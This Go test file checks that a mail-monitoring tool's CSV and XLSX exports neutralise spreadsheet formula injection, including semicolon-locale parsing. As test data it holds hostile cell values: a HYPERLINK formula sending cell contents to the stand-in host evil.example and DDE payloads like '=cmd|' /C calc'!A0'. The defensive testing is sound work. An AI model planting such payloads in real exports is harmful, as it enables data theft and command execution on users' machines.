package report

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"postvakt/internal/spreadsheet"
	"postvakt/internal/store"
)

// TestNoFormulaInjection: text cells that a spreadsheet would run as a
// formula are written behind an apostrophe in CSV and as (text-formatted)
// strings in XLSX; numbers and ordinary text are left alone.
func TestNoFormulaInjection(t *testing.T) {
	now := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	evil := []string{`=HYPERLINK("http://evil.example/?"&A1,"klikk")`, "+47 22 00 00 00", "-2+3", "@SUM(A1:A9)", "\tx=1", "\rcmd"}
	src := rows(len(evil))
	for i, v := range evil {
		src[i].SenderUnit = v
		src[i].RecipientName = v
		src[i].Class = v
	}
	src[0].SentAt = now.Add(72 * time.Hour) // age_days -3: a number, not a formula
	var buf bytes.Buffer
	if _, err := ShipmentsFor(context.Background(), src, store.ListFilter{List: store.ListUnopened}, CSV, &buf, now, XLSXOptions{}); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int {
		for i, h := range ShipmentHeader {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	for i, v := range evil {
		row := got[i+1]
		for _, c := range []string{"sender_unit", "recipient_name", "class"} {
			if want := "'" + v; row[col(c)] != want {
				t.Errorf("CSV row %d %s = %q, want %q", i, c, row[col(c)], want)
			}
		}
	}
	if a := got[1][col("age_days")]; a != "-3" {
		t.Errorf("CSV age_days = %q, want -3 (a number stays a number)", a)
	}

	// The same in the sheet for people (Labels).
	for _, l := range []*Labels{nil, testLabels} {
		buf.Reset()
		if _, err := ShipmentsFor(context.Background(), src, store.ListFilter{List: store.ListUnopened}, XLSX, &buf, now, XLSXOptions{Labels: l}); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		sheet := f.GetSheetName(0)
		for i, v := range evil {
			cell, _ := excelize.CoordinatesToCellName(col("sender_unit")+1, i+2)
			if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
				t.Errorf("labels %v: XLSX %s is a formula %q (%v)", l != nil, cell, formula, err)
			}
			if typ, err := f.GetCellType(sheet, cell); err != nil || typ != excelize.CellTypeInlineString {
				t.Errorf("labels %v: XLSX %s has type %v (%v), want an inline string", l != nil, cell, typ, err)
			}
			if val, err := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true}); err != nil || val != v {
				t.Errorf("labels %v: XLSX %s = %q (%v), want %q as it is", l != nil, cell, val, err, v)
			}
		}
		f.Close()
	}
}

// auditEntries is an audit source of one page.
type auditEntries []store.AuditEntry

func (a auditEntries) AuditLog(context.Context, store.AuditFilter) (*store.AuditPage, error) {
	return &store.AuditPage{Entries: a}, nil
}

// TestNoFormulaInEveryExport: the incident report, the follow-ups and the
// audit log write what people typed or a register named (a unit, a class,
// a channel id or status, a follow-up's note and who decided, an audit
// entry's actor, object and detail) through the same rule as the lists:
// in CSV no cell is left that a spreadsheet takes for a formula (such a
// one is behind an apostrophe, a negative number left alone), and in XLSX,
// in the programs' form and in the people's, no cell is a formula and
// each such text is an inline string, as it was.
func TestNoFormulaInEveryExport(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"klikk")`
	inc := fakeIncidentRows(3)
	for i := range inc {
		inc[i].SenderUnit, inc[i].Class, inc[i].ChannelID, inc[i].ChannelStatus = evil, "@SUM(A1)", "-1+1", "+cmd"
	}
	fus := followUps(2)
	for i := range fus {
		fus[i].SenderUnit, fus[i].Note, fus[i].DecidedBy, fus[i].ChannelID = evil, "-ringte\t=1", "@kari", "\r=2"
	}
	audit := auditEntries{{At: time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC), Actor: evil, Role: "admin", Action: store.ActTokenCreate,
		Object: "+token", Detail: "-2+3", SenderOrg: "964338531"}}
	exports := map[string]func(f Format, w *bytes.Buffer, o XLSXOptions) error{
		"incident": func(f Format, w *bytes.Buffer, o XLSXOptions) error {
			_, _, err := IncidentFor(context.Background(), inc, store.IncidentFilter{}, f, w, o)
			return err
		},
		"followups": func(f Format, w *bytes.Buffer, o XLSXOptions) error {
			_, err := FollowUps(context.Background(), &pagedFollowUps{list: fus}, store.Scope{}, true, f, w, o)
			return err
		},
		"audit": func(f Format, w *bytes.Buffer, o XLSXOptions) error {
			_, err := AuditLog(context.Background(), audit, store.AuditFilter{}, f, w, o)
			return err
		},
	}
	for name, export := range exports {
		var buf bytes.Buffer
		if err := export(CSV, &buf, XLSXOptions{}); err != nil {
			t.Fatalf("%s CSV: %v", name, err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%s CSV: %v", name, err)
		}
		escaped := 0
		for i, rec := range recs {
			for j, cell := range rec {
				if spreadsheet.FormulaLike(cell) {
					t.Errorf("%s CSV row %d column %d is %q: a spreadsheet takes it for a formula", name, i, j+1, cell)
				}
				if cell == "'"+evil {
					escaped++
				}
			}
		}
		if escaped == 0 {
			t.Errorf("%s CSV: no cell %q, want the text behind an apostrophe", name, "'"+evil)
		}

		for _, l := range []*Labels{nil, testLabels} {
			buf.Reset()
			if err := export(XLSX, &buf, XLSXOptions{Labels: l}); err != nil {
				t.Fatalf("%s XLSX (labels %v): %v", name, l != nil, err)
			}
			f, err := excelize.OpenReader(bytes.NewReader(buf.Bytes()))
			if err != nil {
				t.Fatalf("%s XLSX (labels %v): %v", name, l != nil, err)
			}
			texts := 0
			for _, sheet := range f.GetSheetList() {
				rows, _ := f.GetRows(sheet, excelize.Options{RawCellValue: true})
				for i, row := range rows {
					for j, v := range row {
						cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
						if formula, err := f.GetCellFormula(sheet, cell); err != nil || formula != "" {
							t.Errorf("%s XLSX (labels %v) %s!%s is a formula %q (%v)", name, l != nil, sheet, cell, formula, err)
						}
						if !spreadsheet.FormulaLike(v) {
							continue
						}
						texts++
						if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString {
							t.Errorf("%s XLSX (labels %v) %s!%s %q has type %v, want an inline string", name, l != nil, sheet, cell, v, typ)
						}
					}
				}
			}
			if texts == 0 {
				t.Errorf("%s XLSX (labels %v): none of the formula-like texts is in it as it was", name, l != nil)
			}
			f.Close()
		}
	}
}

// semicolonFields reads text as a spreadsheet in a Norwegian or Danish
// locale reads a CSV file it opens by a double click: fields separated by
// semicolons and rows by line breaks, a quote taken as one only at the
// start of a field (else it is text).
func semicolonFields(text string) []string {
	var out []string
	for len(text) > 0 {
		var field strings.Builder
		if text[0] == '"' {
			text = text[1:]
			for len(text) > 0 {
				if text[0] == '"' {
					if len(text) > 1 && text[1] == '"' {
						field.WriteByte('"')
						text = text[2:]
						continue
					}
					text = text[1:]
					break
				}
				field.WriteByte(text[0])
				text = text[1:]
			}
		}
		i := strings.IndexAny(text, ";\r\n")
		if i < 0 {
			i = len(text)
		}
		field.WriteString(text[:i])
		out = append(out, field.String())
		if i < len(text) {
			i++
		}
		text = text[i:]
	}
	return out
}

// TestNoFormulaAfterALineBreak: a name with a line break in it (a unit, a
// recipient from the register) is one quoted cell to a reader of commas;
// a Norwegian or Danish spreadsheet reads the file on semicolons, takes
// the quote in the middle of its field for text, and starts a new row at
// the line break: the line after it must not become a formula there.
func TestNoFormulaAfterALineBreak(t *testing.T) {
	src := rows(3)
	src[0].SenderUnit = "Barnevern\n=cmd|' /C calc'!A0;"
	src[1].RecipientName = "Brønnøy AS\r\n@SUM(A1:A9)"
	src[2].Class = "a;b\r+1+2;\"=1+1"
	var buf bytes.Buffer
	if _, err := ShipmentsFor(context.Background(), src, store.ListFilter{List: store.ListUnopened}, CSV, &buf, time.Now(), XLSXOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, f := range semicolonFields(buf.String()) {
		if spreadsheet.FormulaLike(f) {
			t.Errorf("read on semicolons, a field is %q: a spreadsheet takes it for a formula", f)
		}
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := recs[1][4], "Barnevern\n'=cmd|' /C calc'!A0;"; got != want {
		t.Errorf("read on commas, the unit is %q, want %q", got, want)
	}
}

// TestNoFormulaReadOnSemicolons: whatever a name holds (every string of up
// to four of the characters that matter), the CSV row it is written in,
// read on semicolons as a Norwegian or Danish spreadsheet reads it, has no
// field that spreadsheet takes for a formula; a field that starts within
// the cell runs on past it over the commas, so a number there ("x;-1")
// is one no longer ("-1,next cell").
func TestNoFormulaReadOnSemicolons(t *testing.T) {
	const alphabet = "1=+-@\t\r\n;\", "
	var buf bytes.Buffer
	cell := make([]byte, 0, 4)
	var try func()
	try = func() {
		buf.Reset()
		w := csv.NewWriter(&buf)
		_ = w.Write([]string{"id", spreadsheet.CSVCell(string(cell)), "5+cmd|' /C calc'!A0"})
		w.Flush()
		for _, f := range semicolonFields(buf.String()) {
			if spreadsheet.FormulaLike(f) {
				t.Fatalf("a cell %q is written %q: read on semicolons, a field is %q", cell, buf.String(), f)
			}
		}
		if len(cell) == cap(cell) {
			return
		}
		for i := 0; i < len(alphabet); i++ {
			cell = append(cell, alphabet[i])
			try()
			cell = cell[:len(cell)-1]
		}
	}
	try()
}
